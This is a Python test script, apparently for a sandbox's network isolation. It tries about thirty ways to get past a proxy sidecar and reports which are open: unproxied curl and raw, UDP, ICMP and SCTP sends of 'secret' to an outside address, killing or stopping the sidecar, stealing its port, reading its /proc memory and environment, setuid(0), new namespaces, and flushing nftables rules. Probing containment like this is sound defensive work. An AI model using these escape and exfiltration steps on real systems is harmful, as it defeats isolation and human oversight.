"""Tries to get round: hostile.py SIDECAR_PID ROOM. A line for each way, `open` where it led anywhere."""

import ctypes
import os
import signal
import socket
import subprocess
import sys

PID, ROOM = int(sys.argv[1]), sys.argv[2]
FAR, FAR6 = "198.51.100.7", "2001:db8::7"
ways = {}


def way(act):
    ways[act.__name__] = act
    return act


def sent(family, kind, protocol, address, bind=None):
    with socket.socket(family, kind, protocol) as out:
        out.settimeout(2)
        if bind:
            out.bind(bind)
        out.sendto(b"secret", address)
        return out.recv(64)


@way
def unset_variables():
    """A connection of its own making leads to the sidecar, which refuses."""
    environment = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    done = subprocess.run(["curl", "-sS", "-m", "5", "--noproxy", "*", "-o", "/dev/null", "-w", "%{http_code}",
                           f"http://{FAR}/"], env=environment, capture_output=True, text=True)
    assert done.stdout[:1] in ("2", "3"), done.stdout
    return done.stdout


@way
def raw_socket():
    return sent(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP, (FAR, 0))


@way
def raw_socket_of_ipv6():
    return sent(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP, (FAR6, 0))


@way
def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    return "it was made"


@way
def ping():
    return sent(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (FAR, 0))


@way
def udp():
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (FAR, 9999))


@way
def udp_from_a_chosen_port():
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (FAR, 53), ("0.0.0.0", 15003))


@way
def udp_over_ipv6():
    return sent(socket.AF_INET6, socket.SOCK_DGRAM, 0, (FAR6, 443))


@way
def multicast():
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353))


@way
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(2)
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        out.sendto(b"secret", ("192.0.2.255", 9))
        return out.recv(64)


@way
def udp_lite():
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 136, (FAR, 443))


@way
def sctp():
    return sent(socket.AF_INET, socket.SOCK_STREAM, 132, (FAR, 443))


@way
def a_mark_that_rules_spare():
    with socket.socket() as out:
        out.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
        return "it was set"


@way
def another_device():
    with socket.socket() as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"out\0")
        out.settimeout(2)
        out.connect((FAR, 22))
        out.sendall(b"secret")
        return out.recv(64) or stop()


def stop():
    raise ConnectionError("closed")


@way
def another_users_port():
    return socket.create_connection(("127.0.0.1", 18080), 2).recv(1)


@way
def the_admin_port():
    return socket.create_connection(("127.0.0.1", 15000), 2).recv(1)


@way
def kill_the_sidecar():
    os.kill(PID, signal.SIGKILL)
    return "killed"


@way
def stop_the_sidecar():
    os.kill(PID, signal.SIGSTOP)
    return "stopped"


@way
def steal_its_port():
    with socket.socket(socket.AF_INET6) as thief:
        thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        thief.bind(("::", 15003))
        thief.listen()
        return "bound"


@way
def its_control_socket():
    with socket.socket(socket.AF_UNIX) as control:
        control.settimeout(2)
        control.connect(f"{ROOM}/control.sock")
        control.sendall(b'{"task_open":{}}\n')
        return control.recv(64) or stop()


@way
def its_memory():
    return open(f"/proc/{PID}/mem", "rb").read(1)


@way
def its_environment():
    return open(f"/proc/{PID}/environ", "rb").read(1)


@way
def its_files_by_proc():
    return os.listdir(f"/proc/{PID}/fd")


@way
def its_root_by_proc():
    return os.listdir(f"/proc/{PID}/root/")


@way
def abstract_sockets():
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if name.startswith("@"):
            with socket.socket(socket.AF_UNIX) as out:
                out.connect("\0" + name[1:])
                return name
    stop()


@way
def another_user():
    os.setuid(0)
    return "root"


@way
def a_namespace_with_devices():
    """In a user namespace of its own it may do much, but to no network but its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()
    if pid == 0:
        newuser, newnet = 0x10000000, 0x40000000
        if libc.unshare(newuser | newnet) != 0:
            os._exit(2)  # there is no such namespace here
        try:
            socket.create_connection((FAR, 80), 2)
            os._exit(0)
        except OSError:
            os._exit(1)
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0, "no way out of it"
    return "connected"


@way
def the_rules():
    done = subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr.split("\n")[0]
    return "flushed"


for name, act in ways.items():
    try:
        print(f"{name}: open: {act()!r}")
    except (OSError, AssertionError) as why:
        print(f"{name}: closed ({type(why).__name__}: {str(why)[:60]})")
print(f"{len(ways)} ways")
